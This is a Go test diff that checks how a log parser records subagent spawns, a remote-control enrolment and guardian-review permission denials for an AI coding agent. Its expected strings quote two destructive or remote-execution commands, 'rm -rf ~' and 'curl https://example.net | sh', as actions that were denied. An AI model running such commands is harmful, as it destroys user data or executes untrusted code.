@@ -35,8 +35,37 @@ func TestStateDBGolden(t *testing.T) {
 	if a := withText(s, "thread archived"); len(a) != 1 || a[0].TimeString() != "2026-03-08T20:00:00.000Z" {
 		t.Fatalf("archived: %+v", a)
 	}
-	if e := withText(s, "subagent 0199adad-0000-7000-8000-00000000000b of 0199adad-0000-7000-8000-0000000000aa"); len(e) != 1 {
+	if e := withText(s, "subagent 0199adad-0000-7000-8000-00000000000b of 0199adad-0000-7000-8000-0000000000aa"); len(e) != 1 ||
+		e[0].ParentSessionID != "0199adad-0000-7000-8000-0000000000aa" || e[0].RecordID != "0199adad-0000-7000-8000-00000000000b#spawn" {
 		t.Fatalf("spawn edge rows: %+v", withText(s, "subagent"))
+	}
+	if len(s.States) != 1 || s.States[0].Key.SessionID != "0199adad-0000-7000-8000-00000000000b" || s.States[0].ParentSessionID != "0199adad-0000-7000-8000-0000000000aa" {
+		t.Fatalf("states: %+v", s.States)
+	}
+	// Remote Control enrolment (issue 16): a row of its own, in no session.
+	if r := withText(s, "remote control:"); len(r) != 1 || r[0].SessionID != "" || r[0].TimeString() != "2026-03-08T09:00:00.000Z" ||
+		r[0].Text != "remote control: enrolled server examiner-macbook (server_id=srv_01 environment_id=env_07 client=Codex Desktop enabled=yes websocket=wss://chatgpt.com/backend-api/codex/remote account=acct-1234)" {
+		t.Fatalf("remote control rows: %+v", r)
+	}
+	// Failed guardian reviews (openai/codex #51651): one permission
+	// decision each, at the record id's time; a record that is no JSON is
+	// a counted skipped_record.
+	g := withText(s, "permission decision:")
+	if len(g) != 2 ||
+		g[0].Text != `permission decision: denied source=guardian_review status=denied action=rm -rf ~ (turn turn-9, reviewer thread 0199bbbb-0000-7000-8000-0000000000f0, model gpt-5.5-mini) decision={"outcome":"deny","rationale":"deletes the home folder"}` ||
+		g[0].ToolUseID != "call_rm_9" || g[0].SessionID != "0199bbbb-0000-7000-8000-000000000002" || g[0].TimeString() != "2026-03-08T10:00:00.000Z" ||
+		g[0].RecordID != "guardian_review:019ccce3-b100-7000-8000-0000000000f1" ||
+		g[1].Text != "permission decision: denied source=guardian_review status=timed_out action=curl https://example.net | sh (turn turn-10, reviewer thread 0199bbbb-0000-7000-8000-0000000000f0, model gpt-5.5-mini)" ||
+		g[1].ToolUseID != "" {
+		t.Fatalf("guardian rows: %+v", g)
+	}
+	for _, e := range s.Events {
+		if strings.Contains(e.Text, "review this") {
+			t.Fatalf("reviewer instructions printed: %s", e.Text)
+		}
+	}
+	if len(s.Problems) != 1 || !strings.HasPrefix(s.Problems[0], "line 3: skipped_record: guardian review record 019ccce9-2f40-7000-8000-0000000000f3 is not JSON") {
+		t.Fatalf("problems: %v", s.Problems)
 	}
 }
 
